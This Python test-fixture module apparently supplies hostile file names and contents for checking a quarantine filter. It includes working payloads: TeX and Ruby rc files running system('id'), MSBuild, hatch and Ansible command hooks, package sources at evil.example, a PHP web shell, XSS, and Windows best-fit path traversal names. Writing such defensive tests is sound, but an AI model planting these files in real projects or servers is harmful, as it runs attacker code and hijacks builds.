"""Names for independent attack n on text and names (session 38,
tests/quarantine/test_attack_independent_ntext.py).

Hostile: files a web server runs by their name's extension (Debian Apache's type maps,
twistd web's resource scripts: refused) or reads as the directory's configuration
(serve.json, _headers); names tools read from `.` (ROOT's *.rootmap, Asymptote's
config.asy, voila.json, irb's rc files, SExtractor's default.sex, SWarp's default.swarp,
wandb/settings, listings', babel's and ltxdoc's .cfg); build tools' project-directory
configuration (MSBuild, NuGet, the .NET SDK, docker compose, hatch, pdm); LaTeX job files
whose job only a TeX-only name shows; names a Windows ANSI program sees with path
separators (best fit); a name that looks blank.
Controls: a paper's LaTeX tree (a table as a job writes it) and logging's rotated files.
"""

from __future__ import annotations

import json
import logging
import logging.handlers
from pathlib import Path

import pandas as pd

# TeX code a file read as TeX runs: \openout writes a latexmkrc for the next latexmk run.
TEX = b"\\immediate\\openout9=latexmkrc \\immediate\\write9{system('id');}\\endinput\n"

# Debian's Apache (mods-available/mime.conf, mod_negotiation enabled by default): `AddHandler
# type-map var`. A type map's variant may carry its body and its own Content-Type; mod_mime
# applies a handler for ANY extension of the name, so `notes.var.txt` is a type map too.
# <img onerror> is no markup the text rule lists (the docs: "name-type decides").
TYPE_MAP = (
    b"URI: negotiate\n\n"
    b"Content-type: text/html\n"
    b"Body:----xyz----\n"
    b"results of run 42: <img src=x onerror=alert(document.domain)>\n"
    b"----xyz----\n"
)

# twistd web --path DIR (twisted/web/tap.py opt_path): processors {'.epy': PythonScript,
# '.rpy': ResourceScript}: a GET of status.rpy runs it as Python in the server.
RPY = b"import os\nos.system('id > /tmp/pwned')\nfrom twisted.web.static import Data\n" \
      b"resource = Data(b'ok', 'text/plain')\n"

# ROOT 6's system.rootrc: `Unix.*.Root.DynamicPath: .:$(ROOT_DYN_PATH):`; TCling's
# LoadLibraryMap reads every `*.rootmap` of each dynamic-path directory when `root` starts,
# its `{ decls }` lines declared to cling (a global's initializer runs).
ROOTMAP = (
    b"{ decls }\n"
    b"namespace { int pwn = system(\"id > /tmp/pwned\"); }\n"
    b"[ libEvent.so ]\n"
    b"class Event\n"
)


# Voila (voila/app.py, Voila._config_file_paths_default: [os.getcwd(), *jupyter_config_path()])
# loads voila.json from the directory it starts in: `browser` is a command webbrowser.get
# runs at startup (a command line with %s), `ip` serves the dashboards' kernels to the net.
VOILA = (json.dumps({"Voila": {"browser": "sh -c 'id > /tmp/pwned' %s", "ip": "0.0.0.0"}},  # noqa: S104
                    indent=2) + "\n").encode()


# Build and run tools that read these names from the project's directory (and its
# parents) on every run, unasked: the class of the refused CTestCustom.cmake, bunfig.toml,
# uv.toml, pyproject.toml. A job's output copied into a project directory takes effect.
_MSBUILD = (
    b"\xef\xbb\xbf<Project>\n  <Target Name=\"Calib\" BeforeTargets=\"Build\">\n"
    b"    <Exec Command=\"id &gt; /tmp/pwned\" />\n  </Target>\n</Project>\n"
)
BUILD_CONFIG = {
    "Directory.Build.props": _MSBUILD,
    "Directory.Build.targets": _MSBUILD,
    "NuGet.Config": b"\xef\xbb\xbf<configuration>\n  <packageSources>\n    <clear />\n"
    b"    <add key=\"lab\" value=\"https://evil.example/v3/index.json\" />\n"
    b"  </packageSources>\n</configuration>\n",
    "global.json": (json.dumps({"msbuild-sdks": {"Lab.Build.Sdk": "1.0.0"}}, indent=2)
                    + "\n").encode(),
    "compose.override.yaml": b"services:\n  app:\n    privileged: true\n    volumes:\n"
    b"      - /:/host\n    command: sh -c \"id > /host/tmp/pwned\"\n",
    "docker-compose.override.yml": b"services:\n  app:\n    privileged: true\n"
    b"    volumes:\n      - /:/host\n",
    "hatch.toml": b"[envs.default]\npre-install-commands = [\"sh -c 'id > /tmp/pwned'\"]\n",
    "pdm.toml": b"[pypi]\nurl = \"https://evil.example/simple\"\n",
    "Pipfile": b"[[source]]\nurl = \"https://evil.example/simple\"\nverify_ssl = true\n"
    b"name = \"pypi\"\n\n[packages]\nnumpy = \"*\"\n",
    # Ansible reads ./ansible.cfg first (before ~/.ansible.cfg) unless `.` is world-writable
    "ansible.cfg": b"[ssh_connection]\nssh_args = -o ProxyCommand=\"sh -c 'id > /tmp/pwned'\"\n",
}


# Static servers' per-directory configuration: Vercel's `serve` (npx serve DIR reads
# DIR/serve.json), Netlify's and Cloudflare Pages' `_headers` in the published directory:
# every .log sent as text/html, where the <img onerror> the text rule admits runs.
SERVE_JSON = (json.dumps({"headers": [{"source": "**/*.log", "headers": [
    {"key": "Content-Type", "value": "text/html"}]}]}, indent=2) + "\n").encode()
HEADERS = b"/*.log\n  Content-Type: text/html\n"
PAGE_LOG = b"run 42 done <img src=x onerror=alert(document.domain)>\n"


def name_hostile() -> dict[str, bytes]:
    files = {
        "negotiate.var": TYPE_MAP,
        "notes.var.txt": TYPE_MAP,
        "status.rpy": RPY,
        "status.epy": RPY,
        "analysis.rootmap": ROOTMAP,
        # listings.sty: \InputIfFileExists{lstlocal.cfg} after listings.cfg (no package
        # installs it: users drop it beside their document with their lstlang0.sty)
        "lstlocal.cfg": TEX,
        # babel.sty: \InputIfFileExists{bblopts.cfg} unless `noconfigs` (none installed)
        "bblopts.cfg": TEX,
        # ltxdoc.cls: \InputIfFileExists{ltxdoc.cfg} (package documentation's class)
        "ltxdoc.cfg": TEX,
        # LaTeX job known only from a name only a TeX run writes: xelatex -no-pdf's main.xdv,
        # biblatex's main.run.xml; backref and nomencl read main.brf, main.nls back
        "xdv/main.brf": TEX,
        "runxml/main.nls": TEX,
        # latex main.tex; dvips main.dvi: main.dvi is written by TeX only; glossaries
        # inputs \jobname.glsdefs at \begin{document}
        "dvi/main.glsdefs": TEX,
        "voila.json": VOILA,
        "served/serve.json": SERVE_JSON,
        "served/_headers": HEADERS,
        # wandb (wandb/sdk/wandb_settings.py settings_workspace: wandb_dir/"settings", the
        # wandb_dir ./wandb): the workspace settings `wandb init` writes, read by every
        # wandb.init() in the directory
        "wandb/settings": b"[default]\nbase_url = https://wandb.evil.example\nmode = online\n",
        # astronomy beside the job's FITS images: SExtractor and SWarp read default.sex and
        # default.swarp of the working directory when run without -c (`sex image.fits`);
        # their output names are any path the user may write. IRAF's cl and PyRAF run the
        # working directory's login.cl (CL; `!` runs a shell command): refused (name-type
        # .cl, application/simple-filter+xml)
        "default.sex": b"CATALOG_NAME     ../../.bashrc\nCATALOG_TYPE     ASCII_HEAD\n"
        b"CHECKIMAGE_TYPE  BACKGROUND\nCHECKIMAGE_NAME  ../../.profile\n",
        "default.swarp": b"IMAGEOUT_NAME    ../../.bashrc\nWEIGHTOUT_NAME   ../../.profile\n",
        "login.cl": b"!id > /tmp/pwned\nkeep\n",
        # Ruby's irb (irb/init.rb rc_file_generators): after ~/.irbrc, Dir.pwd's .irbrc,
        # irb.rc, _irbrc, $irbrc, loaded as Ruby when irb starts there
        "irb.rc": b"system('id > /tmp/pwned')\n",
        "_irbrc": b"system('id > /tmp/pwned')\n",
        "$irbrc": b"system('id > /tmp/pwned')\n",
        # asymptote's settings.cc: setPath() puts "." first, then locateFile("config.asy")
        # and runFile() before any figure; safe mode still writes files in `.`
        "config.asy": b'file f=output("latexmkrc");\nwrite(f, "system(\'id\');");\nclose(f);\n',
        # a job whose name has a dot: `pdflatex paper.v2.tex` reads paper.v2.brf back
        "dotjob/paper.v2.brf": TEX,
        # best fit (Windows' WideCharToMultiByte to cp1252 and most code pages, the WorstFit
        # class, 2025): U+FF3C and U+FF0F become \ and /: an ANSI program listing the share
        # gets `rundir\..\..\Startup.txt` and writes where that leads
        "rundir\uff3c..\uff3c..\uff3cstartup.txt": b"pwned\n",
        "rundir\uff0f..\uff0f..\uff0fstartup.txt": b"pwned\n",
        # U+2800 BRAILLE PATTERN BLANK (So): shown as an empty cell, no blank to Unicode
        "results\u2800.csv": b"run,events\n42,1000\n",
    }
    return files | BUILD_CONFIG


# Published by design ("By design not refused: hyperref's .out ... main.out beside main.tex
# is read back as bookmarks"): hyperref \@input s \jobname.out.
LISTED = {"outjob/main.out": b"\\BOOKMARK [1][-]{s.1}{Intro}{}% 1\n" + TEX}


def name_context() -> dict[str, bytes]:
    """What shows the hostile TeX files' job: the file a TeX run writes, the document."""
    return {
        "xdv/main.xdv": b"",  # empty: judged by name alone, as the directory's names are
        "runxml/main.run.xml": b"",
        "dvi/main.dvi": b"",
        "served/run42.log": PAGE_LOG,
        "casejob/MAIN.TEX": b"\\documentclass{article}\n",
        "dashjob/main.tex": b"\\documentclass{article}\n",
        "outjob/main.tex": b"\\documentclass{article}\\usepackage{hyperref}\n",
        "dotjob/paper.v2.tex": b"\\documentclass{article}\\usepackage[backref]{hyperref}\n",
    }


# Claimed refused (kept so a regression shows): dot, option and config names as a client
# sees them; CVS's metadata in other cases; bidi, Hangul filler, zero width in a name.
def name_refused() -> dict[str, bytes]:
    return {
        "cvs/Root": b":ext:evil@example.org:/cvs\n",
        "CVS./Root": b":ext:evil@example.org:/cvs\n",
        "run\u202egol.txt": b"x\n",
        "run\u3164.log": b"x\n",
        "run\u200b.log": b"x\n",
        "web.config.": b"<configuration/>\n",
        # NTFS 8.3 aliases of .htaccess and node_modules (a Windows client writes through
        # them into a web directory's .htaccess, a checkout's node_modules)
        "HTACCE~1": b"AddHandler cgi-script .log\n",
        "NODE_M~1/x/package.json": b'{"main": "x.js"}\n',
        # the job known from its document in another case; NAME-X other than the outputs
        "casejob/main.brf": TEX,
        "dashjob/main-x.tex": TEX,
        "index.phtml": b"<?php system($_GET['c']); ?>\n",
        "page.shtml": b"<!--#exec cmd=\"id\" -->\n",
    }


CONTROL_NAMES = (
    "paper/main.tex", "paper/tables/yields.tex", "paper/sections/intro.tex", "paper/refs.bib",
    "paper/main.log", "logs/job.log", "logs/job.log.1", "logs/job.log.2",
)


def name_controls(work: Path) -> dict[str, bytes]:
    """A paper's LaTeX tree and a logging job's rotated logs."""
    df = pd.DataFrame({"sample": ["ttbar", "wjets"], "events": [1200, 3400]})
    files = {
        "paper/main.tex": b"\\documentclass{article}\n\\begin{document}\n\\input{tables/yields}\n"
        b"\\bibliography{refs}\n\\end{document}\n",
        "paper/tables/yields.tex": _tabular(df),
        "paper/sections/intro.tex": b"\\section{Introduction}\nWe measure.\n",
        "paper/refs.bib": b"@article{a, title={T}, author={A}, year={2020}}\n",
        "paper/main.log": b"This is pdfTeX, Version 3.141592653-2.6-1.40.24\n",
    }
    files |= _rotated_logs(work)
    return files


def _tabular(df: pd.DataFrame) -> bytes:
    """The table a job writes for the paper to \\input (pandas' to_latex needs jinja2)."""
    rows = " \\\\\n".join(" & ".join(str(v) for v in r) for r in df.itertuples(index=False))
    return f"\\begin{{tabular}}{{lr}}\n{rows} \\\\\n\\end{{tabular}}\n".encode()


def _rotated_logs(work: Path) -> dict[str, bytes]:
    """logging's RotatingFileHandler: job.log, job.log.1, job.log.2 (real rollovers)."""
    work.mkdir(parents=True, exist_ok=True)
    log = logging.getLogger("attack-ntext-rotate")
    log.propagate = False
    handler = logging.handlers.RotatingFileHandler(work / "job.log", maxBytes=400, backupCount=2)
    handler.setFormatter(logging.Formatter("%(asctime)s %(levelname)s %(name)s: %(message)s"))
    log.addHandler(handler)
    log.setLevel(logging.INFO)
    try:
        for i in range(20):
            log.info("event %d processed, %d tracks", i, 3 * i)
    finally:
        log.removeHandler(handler)
        handler.close()
    names = ("job.log", "job.log.1", "job.log.2")
    return {f"logs/{n}": (work / n).read_bytes() for n in names}
